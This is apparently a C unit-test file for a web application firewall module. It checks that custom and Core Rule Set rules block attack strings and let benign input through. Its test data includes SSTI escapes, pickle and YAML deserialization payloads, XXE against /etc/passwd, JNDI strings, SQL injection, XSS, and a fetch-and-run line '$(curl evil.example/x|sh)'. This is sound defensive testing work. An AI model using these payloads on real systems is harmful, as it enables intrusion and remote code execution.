/* test_waf.c - unit tests of the waf module against the real engine and the
 * Core Rule Set installed with moat's dependencies: each of moat's Python
 * rules with attack and benign cases (in the query, a form body and a JSON
 * body), modes, exclusions, the generated base configuration, rule files
 * that do not load (file:line), partial bodies, and the parsing of the
 * engine's log lines (redaction of secret-named fields, truncation). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "config/config.h"
#include "config/settings.h"
#include "waf/internal.h"
#include "waf/waf.h"

static moat_config *config_with(const char *key, const char *toml_value)
{
    moat_config *c = moat_config_default();
    if (!key) return c;
    for (size_t i = 0; i < moat__config_nsettings; i++) {
        if (strcmp(moat__config_settings[i].key, key) != 0) continue;
        char *err = NULL;
        int rc = moat__config_parse_text(&moat__config_settings[i], toml_value, c, &err);
        if (rc) fprintf(stderr, "%s\n", err);
        assert_int_equal(rc, 0);
        return c;
    }
    fail_msg("no setting %s", key);
    return NULL;
}

static moat_waf *load(moat_config *c)
{
    moat_waf *w = NULL;
    char *err = NULL;
    int rc = moat_waf_new(c, &w, &err);
    if (rc) fprintf(stderr, "%s\n", err);
    assert_int_equal(rc, 0);
    assert_non_null(w);
    return w;
}

typedef enum { IN_QUERY, IN_FORM, IN_JSON } place;

static char *pct(const char *s)
{
    moat_buf b;
    moat_buf_init(&b);
    for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
        if ((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') || (*p >= '0' && *p <= '9'))
            moat_buf_putc(&b, (char)*p);
        else
            moat_buf_printf(&b, "%%%02X", *p);
    }
    return moat_buf_steal(&b);
}

/* Runs one request with value in the given place; fills *v. */
static void run(moat_waf *w, place where, const char *value, const char *path, const char *param,
                moat_waf_verdict *v)
{
    memset(v, 0, sizeof(*v));
    char *enc = pct(value);
    moat_buf uri, body;
    moat_buf_init(&uri);
    moat_buf_init(&body);
    moat_buf_puts(&uri, path);
    const char *ctype = NULL;
    if (where == IN_QUERY) {
        moat_buf_printf(&uri, "?%s=%s", param, enc);
    } else if (where == IN_FORM) {
        moat_buf_printf(&body, "%s=%s&x=1", param, enc);
        ctype = "application/x-www-form-urlencoded";
    } else {
        moat_buf_printf(&body, "{\"%s\": ", param);
        moat_buf_put_json_string(&body, value, strlen(value));
        moat_buf_puts(&body, ", \"n\": 1}");
        ctype = "application/json";
    }
    moat_waf_tx *t = moat_waf_tx_new(w, "127.0.0.1", body.len ? "POST" : "GET", uri.data, path, 1);
    moat_waf_tx_header(t, "Host", 4, "app.example", 11);
    moat_waf_tx_header(t, "User-Agent", 10, "test/1.0", 8);
    moat_waf_tx_header(t, "Accept", 6, "*/*", 3);
    if (ctype) {
        char cl[24];
        int n = snprintf(cl, sizeof(cl), "%zu", body.len);
        moat_waf_tx_header(t, "Content-Type", 12, ctype, strlen(ctype));
        moat_waf_tx_header(t, "Content-Length", 14, cl, (size_t)n);
    }
    if (!moat_waf_tx_head(t, v)) moat_waf_tx_body(t, body.data, body.len, false, v);
    moat_waf_tx_free(t);
    moat_buf_free(&uri);
    moat_buf_free(&body);
    free(enc);
}

static bool has_rule(const moat_waf_verdict *v, const char *id)
{
    for (size_t i = 0; i < v->nmatches; i++)
        if (strcmp(v->matches[i].id, id) == 0) return true;
    return false;
}

/* Each of moat's rules: attacks it must catch (itself), ordinary values it
 * must leave alone (the whole rule set must pass them). */
static const struct {
    const char *rule;
    const char *attack[4];
    const char *benign[4];
} python_cases[] = {
    {"1901100",
     {"{{ ''.__class__.__mro__[1].__subclasses__() }}", "x.__globals__['os']", "__builtins__.open",
      "().__reduce_ex__(2)"},
     {"the __init__ method of a class", "my_var = 2", "snake_case_name", "__main__ block"}},
    {"1901101",
     {"''.__class__.__base__", "{{ ''|attr('__class__') }}", "x.__class__['__init__']",
      "a['__dict__']"},
     {"print(self.__class__.__name__)", "the class of the object", "attr(x)", "a['key']"}},
    {"1901110",
     {"{{7*7}}", "{{ config.items() }}", "{% debug %}", "${7*7}"},
     {"Hello {{ name }}", "{{ user.email }}", "{% for item in items %}",
      "total: {{ total|round(2) }}"}},
    {"1901120",
     {"__import__('os').system('id')", "os.popen('id').read()", "subprocess.check_output(['id'])",
      "importlib.import_module('os')"},
     {"evaluate the results", "the os of the machine", "execute the plan", "compile a report"}},
    {"1901130", {"yes", NULL, NULL, NULL}, {"yes", NULL, NULL, NULL}},
    {"1901131",
     {"?__debugger__=yes&cmd=pinauth&pin=1&s=x", "__debugger__=yes", NULL, NULL},
     {"debugger settings", "cmd line", NULL, NULL}},
    {"1901141",
     {"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
      "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==", NULL, NULL},
     {"gAAAAABkZXJuZXQ=", "eyJhbGciOiJIUzI1NiJ9", NULL, NULL}},
    {"1901150",
     {"!!python/object/apply:os.system ['id']", "!!python/name:os.system",
      "tag:yaml.org,2002:python/object/new:x", NULL},
     {"!!str hello", "key: value", "python/flask", NULL}},
    {"1901160",
     {"<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
      "<!ENTITY % p SYSTEM \"http://x/y.dtd\">", "<xi:include href=\"file:///etc/passwd\"/>", NULL},
     {"an entity of the system", "entity framework", "doctype html", NULL}},
    {"1901170",
     {"${jndi:ldap://x/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}ndi:x}", NULL},
     {"jndi: the Java naming interface", "costs $5", "{jndi}", NULL}},
    {"1901190",
     {"php://filter/resource=index", "phar://x.phar", "expect://id", NULL},
     {"https://example.com/", "data science", "zip code", NULL}},
};

static void test_python_rules(void **state)
{
    (void)state;
    moat_config *c = moat_config_default();
    moat_waf *w = load(c);
    moat_waf_verdict v;
    for (size_t i = 0; i < MOAT_ARRAY_LEN(python_cases); i++) {
        const char *rule = python_cases[i].rule;
        bool debugger_name = strcmp(rule, "1901130") == 0; /* matches a parameter name */
        for (size_t k = 0; k < 4 && python_cases[i].attack[k]; k++) {
            for (place p = IN_QUERY; p <= IN_JSON; p++) {
                run(w, p, python_cases[i].attack[k], "/page", debugger_name ? "__debugger__" : "q",
                    &v);
                if (!v.attack || !has_rule(&v, rule))
                    fail_msg("rule %s missed attack '%s' (place %d)", rule,
                             python_cases[i].attack[k], (int)p);
                assert_false(v.engine_err);
                assert_true(v.score >= 5);
            }
        }
        for (size_t k = 0; k < 4 && python_cases[i].benign[k]; k++) {
            for (place p = IN_QUERY; p <= IN_JSON; p++) {
                run(w, p, python_cases[i].benign[k], "/page", debugger_name ? "debugger" : "q", &v);
                if (v.attack)
                    fail_msg("benign '%s' refused (rule %s case, place %d, first match %s)",
                             python_cases[i].benign[k], rule, (int)p,
                             v.nmatches ? v.matches[0].id : "-");
            }
        }
    }
    moat_waf_free(w);
    moat_config_free(c);
}

/* One GET with an extra header; true when refused, and rule matched. */
static bool header_refused(moat_waf *w, const char *name, const char *value, const char *rule)
{
    moat_waf_verdict v;
    memset(&v, 0, sizeof(v));
    moat_waf_tx *t = moat_waf_tx_new(w, "127.0.0.1", "GET", "/page", "/page", 1);
    moat_waf_tx_header(t, "Host", 4, "app.example", 11);
    moat_waf_tx_header(t, "Accept", 6, "*/*", 3);
    moat_waf_tx_header(t, name, strlen(name), value, strlen(value));
    if (!moat_waf_tx_head(t, &v)) moat_waf_tx_body(t, "", 0, false, &v);
    moat_waf_tx_free(t);
    assert_false(v.engine_err);
    return v.attack && (!rule || has_rule(&v, rule));
}

static void test_header_and_cookie_commands(void **state)
{
    (void)state;
    moat_config *c = moat_config_default();
    moat_waf *w = load(c);
    assert_true(header_refused(w, "User-Agent", "x; cat /etc/passwd", "1901210"));
    assert_true(header_refused(w, "X-Api-Client", "a && id", "1901210"));
    assert_true(header_refused(w, "User-Agent", "$(curl evil.example/x|sh)", NULL));
    assert_true(header_refused(w, "Cookie", "pref=x`uname -a`", "1901210"));
    assert_true(header_refused(w, "Cookie", "pref=; cat /etc/passwd", "1901220"));
    const char *const benign_ua[] = {
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15",
        "curl/7.88.1",
        "python-requests/2.28.1",
        "Wget/1.21.3",
        "HTTPie/3.2.1"};
    for (size_t i = 0; i < MOAT_ARRAY_LEN(benign_ua); i++)
        if (header_refused(w, "User-Agent", benign_ua[i], NULL))
            fail_msg("refused UA %s", benign_ua[i]);
    assert_false(header_refused(w, "Referer", "https://app.example/list?page=2&id=7;ls=1", NULL));
    assert_false(header_refused(w, "Cookie", "id=5; session=abc; theme=dark; lang=en", NULL));
    assert_false(header_refused(w, "Cookie", "cart=cat food; ls=1", NULL));
    moat_waf_free(w);
    moat_config_free(c);
}

static void test_upload_file_name(void **state)
{
    (void)state;
    moat_config *c = moat_config_default();
    moat_waf *w = load(c);
    const char *names[] = {"../../app.py", "report.pdf"};
    for (int i = 0; i < 2; i++) {
        moat_buf body;
        moat_buf_init(&body);
        moat_buf_printf(&body,
                        "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"%s\"\r\n"
                        "Content-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n",
                        names[i]);
        moat_waf_verdict v = {0};
        moat_waf_tx *t = moat_waf_tx_new(w, "127.0.0.1", "POST", "/upload", "/upload", 1);
        char cl[24];
        int n = snprintf(cl, sizeof(cl), "%zu", body.len);
        moat_waf_tx_header(t, "Host", 4, "a.example", 9);
        moat_waf_tx_header(t, "Content-Type", 12, "multipart/form-data; boundary=XyZ", 33);
        moat_waf_tx_header(t, "Content-Length", 14, cl, (size_t)n);
        assert_false(moat_waf_tx_head(t, &v));
        moat_waf_tx_body(t, body.data, body.len, false, &v);
        assert_int_equal(v.attack, i == 0);
        if (i == 0) assert_true(has_rule(&v, "1901200"));
        moat_waf_tx_free(t);
        moat_buf_free(&body);
    }
    moat_waf_free(w);
    moat_config_free(c);
}

static void test_crs_and_unparsable_body(void **state)
{
    (void)state;
    moat_config *c = moat_config_default();
    moat_waf *w = load(c);
    moat_waf_verdict v;
    run(w, IN_QUERY, "1' UNION SELECT password FROM users--", "/", "q", &v);
    assert_true(v.attack);
    assert_int_equal(v.status, 403);
    assert_true(has_rule(&v, "942100"));
    assert_string_equal(v.matches[0].var, "ARGS:q");
    run(w, IN_QUERY, "O'Brien", "/", "q", &v);
    assert_false(v.attack);
    /* a JSON body that does not parse: 400 */
    moat_waf_tx *t = moat_waf_tx_new(w, "127.0.0.1", "POST", "/api", "/api", 1);
    moat_waf_tx_header(t, "Host", 4, "a.example", 9);
    moat_waf_tx_header(t, "Content-Type", 12, "application/json", 16);
    moat_waf_tx_header(t, "Content-Length", 14, "7", 1);
    memset(&v, 0, sizeof(v));
    assert_false(moat_waf_tx_head(t, &v));
    moat_waf_tx_body(t, "{\"a\": [", 7, false, &v);
    assert_true(v.attack);
    assert_int_equal(v.status, 400);
    moat_waf_tx_free(t);
    moat_waf_free(w);
    moat_config_free(c);
}

static void test_partial_body(void **state)
{
    (void)state;
    moat_config *c = config_with("waf.inspect_bytes", "\"1KiB\"");
    moat_waf *w = load(c);
    /* 2 KiB of JSON cut at 1 KiB: does not parse, but is not refused for it;
     * an attack in the inspected part still is. */
    for (int attack = 0; attack < 2; attack++) {
        moat_buf body;
        moat_buf_init(&body);
        moat_buf_printf(&body, "{\"q\": \"%s\", \"pad\": \"",
                        attack ? "<script>alert(1)</script>" : "hello");
        while (body.len < 2048)
            moat_buf_putc(&body, 'a');
        moat_buf_puts(&body, "\"}");
        moat_waf_verdict v = {0};
        moat_waf_tx *t = moat_waf_tx_new(w, "127.0.0.1", "POST", "/api", "/api", 1);
        moat_waf_tx_header(t, "Host", 4, "a.example", 9);
        moat_waf_tx_header(t, "Content-Type", 12, "application/json", 16);
        assert_false(moat_waf_tx_head(t, &v));
        moat_waf_tx_body(t, body.data, body.len, true, &v);
        assert_int_equal(v.attack, attack);
        assert_false(v.engine_err);
        moat_waf_tx_free(t);
        moat_buf_free(&body);
    }
    moat_waf_free(w);
    moat_config_free(c);
}

static void test_modes(void **state)
{
    (void)state;
    moat_config *c = config_with("waf.mode", "\"off\"");
    moat_waf *w = (moat_waf *)1;
    char *err = NULL;
    assert_int_equal(moat_waf_new(c, &w, &err), 0);
    assert_null(w);
    moat_config_free(c);
    /* detect: the verdict still says attack (the gateway lets it pass) */
    c = config_with("waf.mode", "\"detect\"");
    w = load(c);
    moat_waf_verdict v;
    run(w, IN_QUERY, "<script>alert(1)</script>", "/", "q", &v);
    assert_true(v.attack);
    assert_true(has_rule(&v, "941100") || has_rule(&v, "941110"));
    moat_buf b;
    moat_buf_init(&b);
    moat_waf_base_config(c, &b);
    assert_non_null(strstr(b.data, "SecRuleEngine DetectionOnly"));
    moat_buf_free(&b);
    moat_waf_free(w);
    moat_config_free(c);
    /* a threshold no single match reaches */
    c = config_with("waf.inbound_threshold", "100");
    w = load(c);
    run(w, IN_QUERY, "<script>alert(1)</script>", "/", "q", &v);
    assert_false(v.attack);
    assert_true(v.total > 0);
    moat_waf_free(w);
    moat_config_free(c);
}

static void test_exclusions(void **state)
{
    (void)state;
    moat_config *c = config_with("waf.exclude", "[\"/cms/ body\", \"/raw/\"]");
    moat_waf *w = load(c);
    moat_waf_verdict v;
    const char *html = "<script>alert(1)</script>";
    run(w, IN_FORM, html, "/cms/page", "body", &v);
    assert_false(v.attack);
    run(w, IN_JSON, html, "/cms/page", "body", &v);
    assert_false(v.attack);
    run(w, IN_FORM, html, "/cms/page", "title", &v);
    assert_true(v.attack);
    run(w, IN_FORM, html, "/blog/page", "body", &v);
    assert_true(v.attack);
    assert_true(moat_waf_path_excluded(c, "/raw/upload"));
    assert_false(moat_waf_path_excluded(c, "/rawx"));
    assert_false(moat_waf_path_excluded(c, "/cms/page"));
    moat_waf_free(w);
    moat_config_free(c);
    /* the check refuses what would break out of the generated SecLang, and
     * what would never match */
    char bad1[] = "/x y\"", bad2[] = "/x y;z", bad3[] = "x", good[] = "/a/b c_d.e";
    assert_non_null(moat__config_check_waf_exclude(bad1));
    assert_non_null(moat__config_check_waf_exclude(bad2));
    assert_non_null(moat__config_check_waf_exclude(bad3));
    assert_null(moat__config_check_waf_exclude(good));
    char bad4[] = "/x FOO:y", bad5[] = "/x 949110", bad6[] = "/x attack-generic", bad7[] = "/x$y",
         bad8[] = "/x attack-rce;", good2[] = "/*/update 932100 ARGS:body",
         good3[] = "/**/snippets attack-rce REQUEST_HEADERS:X-Code";
    assert_non_null(moat__config_check_waf_exclude(bad4));
    assert_non_null(moat__config_check_waf_exclude(bad5));
    assert_non_null(moat__config_check_waf_exclude(bad6));
    assert_non_null(moat__config_check_waf_exclude(bad7));
    assert_non_null(moat__config_check_waf_exclude(bad8));
    assert_null(moat__config_check_waf_exclude(good2));
    assert_null(moat__config_check_waf_exclude(good3));
}

/* The narrowest exclusion of one refused request. */
static void test_suggest(void **state)
{
    (void)state;
    moat_buf b;
    moat_buf_init(&b);
    assert_int_equal(moat_waf_suggest("/posts/42/update?x=1", "932100,932115",
                                      "932100=ARGS:body,932115=ARGS:body", &b),
                     1);
    assert_string_equal(b.data, "/posts/*/update 932100 932115 ARGS:body\n");
    moat_buf_reset(&b);
    /* ids without a nameable target; no id segment: that path alone */
    assert_int_equal(moat_waf_suggest("/search", "942100", "942100=REQUEST_BODY", &b), 1);
    assert_string_equal(b.data, "/search$ 942100\n");
    moat_buf_reset(&b);
    /* two targets, a UUID segment; the evaluation and parse rules are not proposed */
    assert_int_equal(moat_waf_suggest("/a/0b8e6c3e-1f4a-4c5e-9d0a-3f2b1c4d5e6f/b",
                                      "941100,942100,949110",
                                      "941100=ARGS:json.html,942100=REQUEST_COOKIES:prefs", &b),
                     2);
    assert_string_equal(b.data, "/a/*/b 941100 ARGS:json.html\n/a/*/b 942100 "
                                "REQUEST_COOKIES:prefs\n");
    moat_buf_reset(&b);
    assert_int_equal(moat_waf_suggest("/x", "1900002", "1900002=REQBODY_ERROR", &b), 0);
    moat_buf_free(&b);
}

static void test_suggest_text_field(void **state)
{
    (void)state;
    moat_buf b;
    moat_buf_init(&b);
    /* every rule one text fields switch off, one parameter name */
    assert_true(moat_waf_suggest_text_field(
        "932100,932115,949110", "932100=ARGS:post_text,932115=ARGS:json.a.post_text", &b));
    assert_string_equal(b.data, "post_text");
    moat_buf_reset(&b);
    /* an XSS rule that still reads text fields: no */
    assert_false(
        moat_waf_suggest_text_field("932100,941100", "932100=ARGS:tip,941100=ARGS:tip", &b));
    /* two names, a header, no targets: no */
    assert_false(moat_waf_suggest_text_field("932100", "932100=ARGS:a,932100=ARGS:b", &b));
    assert_false(moat_waf_suggest_text_field("932100", "932100=REQUEST_HEADERS:x", &b));
    assert_false(moat_waf_suggest_text_field("932100", NULL, &b));
    assert_false(moat_waf_suggest_text_field("932100", "932100=ARGS:a|b", &b));
    assert_int_equal(b.len, 0);
    moat_buf_free(&b);
}

/* Routes in the glob dialect of [[auth.rules]], rule ids and tags. */
static void test_exclusion_routes(void **state)
{
    (void)state;
    moat_config *c = config_with("waf.exclude", "[\"/*/update body\", \"/notes 941100 941110 "
                                                "941160 941180 ARGS:text\", \"/shell attack-rce\", "
                                                "\"/off/**/raw$\"]");
    moat_waf *w = load(c);
    moat_waf_verdict v;
    const char *html = "<script>alert(1)</script>";
    run(w, IN_FORM, html, "/posts/update", "body", &v);
    assert_false(v.attack);
    run(w, IN_FORM, html, "/posts/x/update", "body", &v); /* '*' is one segment */
    assert_true(v.attack);
    run(w, IN_FORM, html, "/posts/updater", "body", &v);
    assert_true(v.attack);
    /* rule ids: only those rules stop reading the field */
    run(w, IN_FORM, html, "/notes/1", "text", &v);
    assert_false(v.attack);
    run(w, IN_FORM, "1' UNION SELECT password FROM users --", "/notes/1", "text", &v);
    assert_true(v.attack);
    /* a tag: the command-injection rules, on every field of the route */
    run(w, IN_FORM, "build; ls -la /home", "/shell", "cmd", &v);
    assert_false(v.attack);
    run(w, IN_FORM, html, "/shell", "cmd", &v);
    assert_true(v.attack);
    run(w, IN_FORM, "build; ls -la /home", "/other", "cmd", &v);
    assert_true(v.attack);
    assert_true(moat_waf_path_excluded(c, "/off/a/b/raw"));
    assert_false(moat_waf_path_excluded(c, "/off/a/b/raw/x"));
    moat_waf_free(w);
    moat_config_free(c);
}

static void test_bad_rule_files(void **state)
{
    (void)state;
    char path[] = "/tmp/moat-waf-rules-XXXXXX.conf";
    int fd = mkstemps(path, 5);
    assert_true(fd >= 0);
    const char *text = "SecRule ARGS \"@rx a\" \"id:10001,phase:2,deny\"\nSecRuel oops\n";
    assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
    close(fd);
    char list[80];
    snprintf(list, sizeof(list), "[\"%s\"]", path);
    moat_config *c = config_with("waf.rules", list);
    moat_waf *w = NULL;
    char *err = NULL;
    assert_int_equal(moat_waf_new(c, &w, &err), MOAT_ECONFIG);
    assert_null(w);
    char want[64];
    snprintf(want, sizeof(want), "%s:2:", path);
    if (!strstr(err, want)) fail_msg("error '%s' does not name %s", err, want);
    free(err);
    unlink(path);
    /* a file that is not there */
    err = NULL;
    assert_int_equal(moat_waf_new(c, &w, &err), MOAT_ECONFIG);
    assert_non_null(strstr(err, path));
    free(err);
    /* a pattern that does not compile: the engine would load it and never
     * match; moat refuses it with its line */
    snprintf(path, sizeof(path), "/tmp/moat-waf-rules-XXXXXX.conf");
    fd = mkstemps(path, 5);
    assert_true(fd >= 0);
    text = "# ok\nSecRule ARGS \"@rx a\\\"b\" \"id:10001,phase:2,deny\"\n"
           "SecRule ARGS \"!@rx (unclosed\" \"id:10002,phase:2,deny\"\n";
    assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
    close(fd);
    moat_config_free(c);
    snprintf(list, sizeof(list), "[\"%s\"]", path);
    c = config_with("waf.rules", list);
    err = NULL;
    assert_int_equal(moat_waf_new(c, &w, &err), MOAT_ECONFIG);
    snprintf(want, sizeof(want), "%s:3: @rx pattern does not compile", path);
    if (!strstr(err, want)) fail_msg("error '%s' does not say %s", err, want);
    free(err);
    unlink(path);
    moat_config_free(c);
    /* the CRS somewhere else */
    c = config_with("waf.crs", "\"/nonexistent/crs\"");
    err = NULL;
    assert_int_equal(moat_waf_new(c, &w, &err), MOAT_ECONFIG);
    assert_non_null(strstr(err, "/nonexistent/crs"));
    free(err);
    moat_config_free(c);
}

static void test_log_lines(void **state)
{
    (void)state;
    moat_waf_verdict v = {0};
    moat__waf_note_match(&v, "ModSecurity: Warning. [file \"x\"] [id \"942100\"] [msg \"SQLi\"] "
                             "[data \"Matched Data: s&1c found within ARGS:password: x\"] "
                             "[severity \"2\"]");
    assert_int_equal(v.nmatches, 1);
    assert_string_equal(v.matches[0].var, "ARGS:password");
    assert_string_equal(v.matches[0].data, ""); /* secret-named: no value */
    moat__waf_note_match(&v, "[id \"941100\"] [msg \"XSS\"] [data \"Matched Data: <script> found "
                             "within REQUEST_COOKIES:pref: <script>\"] [severity \"2\"]");
    assert_string_equal(v.matches[1].data, ""); /* cookies: never the value */
    char big[600];
    memset(big, 'A', sizeof(big));
    big[sizeof(big) - 1] = '\0';
    char line[800];
    snprintf(line, sizeof(line),
             "[id \"932100\"] [msg \"RCE\"] [data \"Matched Data: %s found within ARGS:q: x\"] "
             "[severity \"2\"]",
             big);
    moat__waf_note_match(&v, line);
    assert_true(strlen(v.matches[2].data) <= 96);
    /* notices go after the critical matches */
    moat__waf_note_match(&v, "[id \"920340\"] [msg \"no type\"] [severity \"5\"]");
    moat__waf_note_match(&v, "[id \"1901110\"] [msg \"SSTI\"] [data \"Matched Data: {{7*7 found "
                             "within ARGS:json.q: {{7*7}}\"] [severity \"2\"]");
    assert_string_equal(v.matches[3].id, "1901110");
    assert_string_equal(v.matches[4].id, "920340");
    assert_string_equal(v.matches[3].data, "{{7*7");
    /* the same rule twice counts once */
    moat__waf_note_match(&v, "[id \"920340\"] [msg \"no type\"] [severity \"5\"]");
    assert_int_equal(v.total, 5);
    assert_false(v.attack);
    moat__waf_note_match(&v, "[id \"949110\"] [msg \"Inbound Anomaly Score Exceeded (Total "
                             "Score: 23)\"]");
    assert_true(v.attack);
    assert_int_equal(v.score, 23);
    assert_int_equal(v.status, 403);
    /* junk */
    moat_waf_verdict j = {0};
    moat__waf_note_match(&j, "");
    moat__waf_note_match(&j, "[id \"");
    moat__waf_note_match(&j, "[id \"1\"] [data \"found within \"]");
    assert_int_equal(j.nmatches, 1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_python_rules),     cmocka_unit_test(test_header_and_cookie_commands),
        cmocka_unit_test(test_upload_file_name), cmocka_unit_test(test_crs_and_unparsable_body),
        cmocka_unit_test(test_partial_body),     cmocka_unit_test(test_modes),
        cmocka_unit_test(test_exclusions),       cmocka_unit_test(test_exclusion_routes),
        cmocka_unit_test(test_suggest),          cmocka_unit_test(test_bad_rule_files),
        cmocka_unit_test(test_log_lines),        cmocka_unit_test(test_suggest_text_field),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
